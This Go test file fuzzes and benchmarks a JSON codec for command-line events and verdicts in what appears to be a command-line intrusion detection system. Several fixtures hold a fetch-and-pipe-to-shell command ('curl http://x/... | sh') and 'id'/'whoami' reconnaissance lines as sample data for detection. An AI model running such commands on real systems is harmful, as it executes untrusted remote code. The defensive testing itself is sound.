package serve

import (
	"bytes"
	"context"
	"encoding/json"
	"math"
	"reflect"
	"slices"
	"testing"
	"time"

	"clmids/internal/stream"
)

// The fuzz targets' seeds are the files under testdata/fuzz: strings that
// take every branch of the encoder and the unescaper (HTML characters,
// control bytes, invalid UTF-8, U+2028/U+2029, surrogate escapes), the
// float cutoffs (1e-7, 1e21, subnormals, -0, NaN, ±Inf), and lines that
// must leave the fast paths (reordered keys, whitespace, case-folded keys,
// null, bad numbers, trailing bytes).

// jsonLine is what json.Encoder.Encode writes for v — the bytes every
// encoder in codec.go must reproduce.
func jsonLine(v any) ([]byte, error) {
	var buf bytes.Buffer
	err := json.NewEncoder(&buf).Encode(v)
	return buf.Bytes(), err
}

// FuzzAppendEvent pins AppendEvent byte-equal to json.Encoder.Encode.
func FuzzAppendEvent(f *testing.F) {
	f.Fuzz(func(t *testing.T, user string, time int64, line string) {
		ev := stream.Event{User: user, Time: time, Line: line}
		want, err := jsonLine(&ev)
		if err != nil {
			t.Fatal(err)
		}
		if got := AppendEvent(nil, &ev); !bytes.Equal(got, want) {
			t.Fatalf("AppendEvent(%+v)\n got %q\nwant %q", ev, got, want)
		}
	})
}

// FuzzAppendVerdict pins AppendVerdict byte-equal to json.Encoder.Encode,
// and for a non-finite score pins the refusal: an error and b unchanged,
// where json.Encoder writes nothing.
func FuzzAppendVerdict(f *testing.F) {
	f.Fuzz(func(t *testing.T, user string, time int64, line, context string, ls, cs, ss float64, n int, la, sa bool) {
		v := stream.Verdict{User: user, Time: time, Line: line, Context: context,
			LineScore: ls, ContextScore: cs, SessionScore: ss, SessionLines: n, LineAlert: la, SessionAlert: sa}
		want, jsonErr := jsonLine(&v)
		prefix := []byte("prior\n")
		got, err := AppendVerdict(prefix, &v)
		if (err != nil) != (jsonErr != nil) {
			t.Fatalf("AppendVerdict error %v, json.Encoder error %v", err, jsonErr)
		}
		if err != nil {
			if string(got) != "prior\n" {
				t.Fatalf("AppendVerdict wrote %q on error", got)
			}
			return
		}
		if !bytes.Equal(got[len(prefix):], want) {
			t.Fatalf("AppendVerdict(%+v)\n got %q\nwant %q", v, got[len(prefix):], want)
		}
	})
}

// FuzzReplicaVerdict pins the replica's path from a request line to its
// verdict line (decodeEvent, then encodeVerdicts with its echo of the
// line and its score table) to encoding/json: the bytes, or the refusal,
// are json.Encoder.Encode's for the verdict built from json.Unmarshal of
// the line, stamped with the same clock. The table starts with an entry
// of another score in each score's slot, and the verdict is encoded twice,
// so both a colliding miss and a hit are checked. The seeds cover
// canonical lines and lines that are not (escapes appendString writes
// otherwise, raw <>&, U+2028, invalid UTF-8, reordered keys, clmgen's
// extra fields), lines that need a stamp, and the float cutoffs.
func FuzzReplicaVerdict(f *testing.F) {
	now := func() time.Time { return time.Unix(1_700_000_000, 0) }
	f.Fuzz(func(t *testing.T, line []byte, ls, cs, ss float64) {
		var ev stream.Event
		wantErr := json.Unmarshal(line, &ev)
		bufs := new(eventBufs)
		for _, f := range []float64{ls, cs, ss} {
			collide(t, &bufs.x, f)
		}
		bufs.slots = append(bufs.slots, stream.Event{})
		err := decodeEvent(line, &bufs.slots[0], bufs, now)
		if (err == nil) != (wantErr == nil) {
			t.Fatalf("decodeEvent(%q) error %v, json.Unmarshal error %v", line, err, wantErr)
		}
		if err != nil {
			return
		}
		stamp(&ev, now)
		v := stream.Verdict{User: ev.User, Time: ev.Time, Line: ev.Line, LineScore: ls, ContextScore: cs, SessionScore: ss, SessionLines: 1}
		want, jsonErr := jsonLine(&v)
		encode := encodeVerdicts(func(_ context.Context, evs []stream.Event) ([]stream.Verdict, error) {
			return []stream.Verdict{{User: evs[0].User, Time: evs[0].Time, Line: evs[0].Line,
				LineScore: ls, ContextScore: cs, SessionScore: ss, SessionLines: 1}}, nil
		})
		for pass := 0; pass < 2; pass++ {
			got, err := encode(context.Background(), bufs.slots, bufs)
			if (err != nil) != (jsonErr != nil) {
				t.Fatalf("encode error %v, json.Encoder error %v", err, jsonErr)
			}
			if err == nil && !bytes.Equal(got, want) {
				t.Fatalf("pass %d: verdict for %q\n got %q\nwant %q", pass, line, got, want)
			}
		}
	})
}

// collide fills the score table slot f maps to with the entry of another
// score.
func collide(t *testing.T, tab *scoreTable, f float64) {
	// The inverse of scoreHash modulo 2^64, by Newton's iteration.
	inv := uint64(scoreHash)
	for i := 0; i < 5; i++ {
		inv *= 2 - scoreHash*inv
	}
	h := math.Float64bits(f) * scoreHash
	slot := &tab[h>>(64-scoreTableBits)]
	// h^d keeps h's top bits, so the score it comes from shares f's slot;
	// its text must fit one.
	for d := uint64(1); d < 1<<20; d++ {
		if g := math.Float64frombits((h ^ d) * inv); !math.IsNaN(g) && !math.IsInf(g, 0) {
			if tab.appendFloat(nil, g); slot.n != 0 {
				return
			}
		}
	}
	t.Fatalf("no colliding score for %v", f)
}

// FuzzDecodeEvent pins DecodeEvent to json.Unmarshal on arbitrary bytes:
// the same Event, and the same error, text included. It calls a line
// canonical exactly when AppendEvent writes the decoded Event back as that
// line.
func FuzzDecodeEvent(f *testing.F) {
	f.Fuzz(func(t *testing.T, data []byte) {
		var want, got stream.Event
		wantErr := json.Unmarshal(data, &want)
		canonical, err := DecodeEvent(data, &got)
		if (err == nil) != (wantErr == nil) || (err != nil && err.Error() != wantErr.Error()) {
			t.Fatalf("DecodeEvent(%q) error %v, json.Unmarshal error %v", data, err, wantErr)
		}
		if got != want {
			t.Fatalf("DecodeEvent(%q) = %+v, json.Unmarshal = %+v", data, got, want)
		}
		if want := err == nil && string(AppendEvent(nil, &got)) == string(data)+"\n"; canonical != want {
			t.Fatalf("DecodeEvent(%q) canonical = %v, want %v", data, canonical, want)
		}
	})
}

// FuzzDecodeVerdict pins DecodeVerdict two ways: it decodes everything
// AppendVerdict writes, to what json.Unmarshal decodes; and on arbitrary
// bytes it accepts nothing json.Unmarshal rejects or reads differently.
func FuzzDecodeVerdict(f *testing.F) {
	f.Fuzz(func(t *testing.T, user string, time int64, line, context string, ls, cs, ss float64, n int, la, sa bool, raw []byte) {
		v := stream.Verdict{User: user, Time: time, Line: line, Context: context,
			LineScore: ls, ContextScore: cs, SessionScore: ss, SessionLines: n, LineAlert: la, SessionAlert: sa}
		if enc, err := AppendVerdict(nil, &v); err == nil {
			line := enc[:len(enc)-1]
			var want, got stream.Verdict
			if err := json.Unmarshal(line, &want); err != nil {
				t.Fatalf("json.Unmarshal(%q): %v", line, err)
			}
			if !DecodeVerdict(line, &got) {
				t.Fatalf("DecodeVerdict rejected AppendVerdict's %q", line)
			}
			if !sameVerdict(got, want) {
				t.Fatalf("DecodeVerdict(%q) = %+v, json.Unmarshal = %+v", line, got, want)
			}
		}
		var got stream.Verdict
		if DecodeVerdict(raw, &got) {
			var want stream.Verdict
			if err := json.Unmarshal(raw, &want); err != nil {
				t.Fatalf("DecodeVerdict accepted %q, which json.Unmarshal rejects: %v", raw, err)
			}
			if !sameVerdict(got, want) {
				t.Fatalf("DecodeVerdict(%q) = %+v, json.Unmarshal = %+v", raw, got, want)
			}
		}
	})
}

// scanVerdict is the full-line verdict scanner FuzzScanVerdictFor checks
// ScanVerdictFor against: it reads time and context_score from any
// canonical verdict, echo included, through the same verdictTail.
func scanVerdict(line []byte) (t int64, contextScore float64, ok bool) {
	p := parser{b: line, ok: true}
	p.lit(`{"user":`)
	p.skipStr()
	p.lit(`,"time":`)
	t = p.integer(64)
	p.lit(`,"line":`)
	p.skipStr()
	contextScore = p.verdictTail()
	if !p.end() {
		return 0, 0, false
	}
	return t, contextScore, true
}

// FuzzScanVerdict pins scanVerdict to DecodeVerdict, on the line
// AppendVerdict writes for the fields and on arbitrary bytes: it accepts a
// line if and only if DecodeVerdict does, and then its time and
// context_score are bit-equal to the decoded ones. The seeds are
// FuzzDecodeVerdict's, plus a context, an escaped user, an overflowing
// line_score, and lines both must reject where the scanner skips work: a
// bad escape, a short \u escape, a raw control byte, and a session_score
// of 1.8e308, just past the float64 maximum.
func FuzzScanVerdict(f *testing.F) {
	f.Fuzz(func(t *testing.T, user string, time int64, line, context string, ls, cs, ss float64, n int, la, sa bool, raw []byte) {
		v := stream.Verdict{User: user, Time: time, Line: line, Context: context,
			LineScore: ls, ContextScore: cs, SessionScore: ss, SessionLines: n, LineAlert: la, SessionAlert: sa}
		enc, _ := AppendVerdict(nil, &v)
		for _, b := range [][]byte{bytes.TrimSuffix(enc, []byte("\n")), raw} {
			var want stream.Verdict
			decoded := DecodeVerdict(b, &want)
			tm, score, ok := scanVerdict(b)
			if ok != decoded {
				t.Fatalf("scanVerdict(%q) ok = %v, DecodeVerdict ok = %v", b, ok, decoded)
			}
			if ok && (tm != want.Time || math.Float64bits(score) != math.Float64bits(want.ContextScore)) {
				t.Fatalf("scanVerdict(%q) = %d, %v; DecodeVerdict time %d, context_score %v",
					b, tm, score, want.Time, want.ContextScore)
			}
		}
	})
}

// FuzzScanEvent pins ScanEvent to the codec: it accepts a line if and
// only if DecodeEvent decodes it and AppendEvent writes the result back
// as exactly that line, and then its user and time, and RawEvent.Text of
// the line, are the decoded ones. AppendRawEvent of the decoded event
// writes that line back, with the decoded user and line.
// The seeds are FuzzDecodeEvent's, plus canonical lines with an escaped
// user, a time of 0 and the widest times, and lines that decode but are
// not canonical: a \u0041, an upper-case \u003C, a \/ or a \ufffd
// escape, a raw <, a raw U+2028, a surrogate pair, and clmgen's JSONL.
func FuzzScanEvent(f *testing.F) {
	f.Fuzz(func(t *testing.T, data []byte) {
		var ev stream.Event
		canonical, err := DecodeEvent(data, &ev)
		if want := err == nil && string(AppendEvent(nil, &ev)) == string(data)+"\n"; canonical != want {
			t.Fatalf("DecodeEvent(%q) canonical = %v, want %v", data, canonical, want)
		}
		user, tm, ok := ScanEvent(data)
		if ok != canonical {
			t.Fatalf("ScanEvent(%q) ok = %v, canonical = %v", data, ok, canonical)
		}
		if ok && (string(user) != ev.User || tm != ev.Time) {
			t.Fatalf("ScanEvent(%q) = %q, %d; DecodeEvent = %+v", data, user, tm, ev)
		}
		if !ok {
			return
		}
		if raw := (RawEvent{Line: data}); raw.Text() != ev.Line {
			t.Fatalf("Text of %q = %q; DecodeEvent line %q", data, raw.Text(), ev.Line)
		}
		if _, raw := AppendRawEvent(nil, &ev); string(raw.Line) != string(data) || string(raw.User) != ev.User || raw.Time != ev.Time || raw.Text() != ev.Line {
			t.Fatalf("AppendRawEvent(%+v) = %q, user %q, time %d, text %q", ev, raw.Line, raw.User, raw.Time, raw.Text())
		}
	})
}

// FuzzScanVerdictFor pins ScanVerdictFor to scanVerdict for every event
// line ScanEvent accepts: it accepts a verdict line exactly when
// scanVerdict does and the line begins with the event minus its closing
// brace, and then the verdict's time is the event's and context_score is
// bit-equal. Each verdict input is tried as it is and behind the event's
// echo, so the fuzzer also mutates the part after the echo. The seeds
// pair events with their verdicts, with verdicts for other events, with
// lines FuzzScanVerdict's corpus must reject, and with bare verdict tails.
func FuzzScanVerdictFor(f *testing.F) {
	f.Fuzz(func(t *testing.T, event, verdict []byte) {
		_, tm, ok := ScanEvent(event)
		if !ok {
			return // the router checks verdicts only against canonical lines
		}
		echo := event[:len(event)-1]
		for _, line := range [][]byte{verdict, append(slices.Clip(echo), verdict...)} {
			score, ok := ScanVerdictFor(line, event)
			vt, want, wantOK := scanVerdict(line)
			wantOK = wantOK && bytes.HasPrefix(line, echo)
			if ok != wantOK {
				t.Fatalf("ScanVerdictFor(%q, %q) ok = %v, want %v", line, event, ok, wantOK)
			}
			if ok && (vt != tm || math.Float64bits(score) != math.Float64bits(want)) {
				t.Fatalf("ScanVerdictFor(%q, %q) = %v; scanVerdict time %d, context_score %v; event time %d",
					line, event, score, vt, want, tm)
			}
		}
	})
}

// sameVerdict is == with floats compared bit for bit, so -0 and 0 differ.
func sameVerdict(a, b stream.Verdict) bool {
	return a == b && math.Float64bits(a.LineScore) == math.Float64bits(b.LineScore) &&
		math.Float64bits(a.ContextScore) == math.Float64bits(b.ContextScore) &&
		math.Float64bits(a.SessionScore) == math.Float64bits(b.SessionScore)
}

// fillFields sets every field of the struct v points to a non-zero value,
// so a field the codec does not know about shows up in the JSON.
func fillFields(t *testing.T, v any) {
	rv := reflect.ValueOf(v).Elem()
	for i := 0; i < rv.NumField(); i++ {
		switch f := rv.Field(i); f.Kind() {
		case reflect.String:
			f.SetString("<" + rv.Type().Field(i).Name + ">")
		case reflect.Int, reflect.Int64:
			f.SetInt(int64(i + 1))
		case reflect.Float64:
			f.SetFloat(float64(i) + 0.25)
		case reflect.Bool:
			f.SetBool(true)
		default:
			t.Fatalf("%s.%s has kind %s, which the codec does not handle",
				rv.Type().Name(), rv.Type().Field(i).Name, f.Kind())
		}
	}
}

// The codec names every field explicitly; this fails when stream.Event or
// stream.Verdict gains a JSON field the codec would silently drop.
func TestCodecCoversEveryField(t *testing.T) {
	var ev stream.Event
	fillFields(t, &ev)
	want, _ := jsonLine(&ev)
	if got := AppendEvent(nil, &ev); !bytes.Equal(got, want) {
		t.Errorf("AppendEvent misses a field:\n got %s\nwant %s", got, want)
	}
	var dev stream.Event
	if _, err := DecodeEvent(want[:len(want)-1], &dev); err != nil || dev != ev {
		t.Errorf("DecodeEvent = %+v, %v; want %+v", dev, err, ev)
	}

	var v stream.Verdict
	fillFields(t, &v)
	want, _ = jsonLine(&v)
	got, err := AppendVerdict(nil, &v)
	if err != nil || !bytes.Equal(got, want) {
		t.Errorf("AppendVerdict misses a field:\n got %s\nwant %s", got, want)
	}
	var dv stream.Verdict
	if !DecodeVerdict(want[:len(want)-1], &dv) || dv != v {
		t.Errorf("DecodeVerdict = %+v; want %+v", dv, v)
	}
}

// Encoding into a buffer that already has room allocates nothing.
func TestAppendAllocs(t *testing.T) {
	ev := stream.Event{User: "alice", Time: 1_700_000_000, Line: `curl http://x/<a>&b | sh`}
	v := stream.Verdict{User: ev.User, Time: ev.Time, Line: ev.Line, Context: "id\nwhoami",
		LineScore: 0.25, ContextScore: 1e-7, SessionScore: 3e21, SessionLines: 4, LineAlert: true}
	buf := make([]byte, 0, 4096)
	if n := testing.AllocsPerRun(100, func() { buf = AppendEvent(buf[:0], &ev) }); n != 0 {
		t.Errorf("AppendEvent: %v allocs/op, want 0", n)
	}
	if n := testing.AllocsPerRun(100, func() { buf, _ = AppendVerdict(buf[:0], &v) }); n != 0 {
		t.Errorf("AppendVerdict: %v allocs/op, want 0", n)
	}
}

// Scanning a verdict allocates nothing, on escaped strings and
// exponent-form floats too.
func TestScanVerdictAllocs(t *testing.T) {
	v := stream.Verdict{User: `eve,"<root>"`, Time: 1_700_000_000, Line: `curl http://x/<a>&b | sh`, Context: "id\nwhoami",
		LineScore: 0.25, ContextScore: 1e-7, SessionScore: 3e21, SessionLines: 4, LineAlert: true}
	enc, err := AppendVerdict(nil, &v)
	if err != nil {
		t.Fatal(err)
	}
	line := enc[:len(enc)-1]
	if tm, score, ok := scanVerdict(line); !ok || tm != v.Time || score != v.ContextScore {
		t.Fatalf("scanVerdict(%q) = %d, %v, %v", line, tm, score, ok)
	}
	if n := testing.AllocsPerRun(100, func() { scanVerdict(line) }); n != 0 {
		t.Errorf("scanVerdict: %v allocs/op, want 0", n)
	}
}

// ScanEvent and ScanVerdictFor allocate nothing on a line whose user needs
// no unescaping, whatever its command line holds.
func TestScanEventAllocs(t *testing.T) {
	ev := stream.Event{User: "user013", Time: 1_700_000_000, Line: `curl http://x/<a>&b | sh "q" \ é`}
	enc := AppendEvent(nil, &ev)
	event := enc[:len(enc)-1]
	v := stream.Verdict{User: ev.User, Time: ev.Time, Line: ev.Line, Context: "id\nwhoami",
		LineScore: 0.25, ContextScore: 1e-7, SessionScore: 3e21, SessionLines: 4, LineAlert: true}
	venc, err := AppendVerdict(nil, &v)
	if err != nil {
		t.Fatal(err)
	}
	line := venc[:len(venc)-1]
	if user, tm, ok := ScanEvent(event); !ok || string(user) != ev.User || tm != ev.Time {
		t.Fatalf("ScanEvent(%q) = %q, %d, %v", event, user, tm, ok)
	}
	if score, ok := ScanVerdictFor(line, event); !ok || score != v.ContextScore {
		t.Fatalf("ScanVerdictFor(%q) = %v, %v", line, score, ok)
	}
	if n := testing.AllocsPerRun(100, func() { ScanEvent(event) }); n != 0 {
		t.Errorf("ScanEvent: %v allocs/op, want 0", n)
	}
	if n := testing.AllocsPerRun(100, func() { ScanVerdictFor(line, event) }); n != 0 {
		t.Errorf("ScanVerdictFor: %v allocs/op, want 0", n)
	}
}
